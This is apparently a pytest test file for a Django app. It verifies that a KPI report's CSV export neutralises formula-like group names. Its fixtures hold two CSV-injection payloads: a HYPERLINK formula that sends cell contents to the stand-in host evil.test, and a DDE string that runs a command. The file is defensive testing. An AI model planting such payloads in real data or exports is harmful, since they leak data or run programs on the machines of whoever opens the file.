"""Security audit: `kpi_report --format csv` neutralises formula-like text like every other export. A group's
name (a person's, a product's, a territory's, all typed or imported by someone else) starting with = + - @ would
run as a formula in the spreadsheet that opens the file."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")'


def test_kpi_report_csv_neutralises_a_group_name_that_reads_as_a_formula(book) -> None:
    book.org.rep_c.first_name, book.org.rep_c.last_name = FORMULA, ""
    book.org.rep_c.save()
    book.products["core"].name = "+cmd|' /C calc'!A0"
    book.products["core"].save()
    out = io.StringIO()
    for by in ("owner", "product"):
        call_command("kpi_report", "--from", "2026-01-01", "--to", "2026-03-31", "--by", by, "--format", "csv",
                     stdout=out)  # fmt: skip
    groups = [row[0] for row in csv.reader(io.StringIO(out.getvalue())) if row and row[0] != "group"]
    assert "'" + FORMULA in groups, groups
    assert "'+cmd|' /C calc'!A0" in groups, groups
    assert not [g for g in groups if g.startswith(("=", "+", "-", "@"))], groups
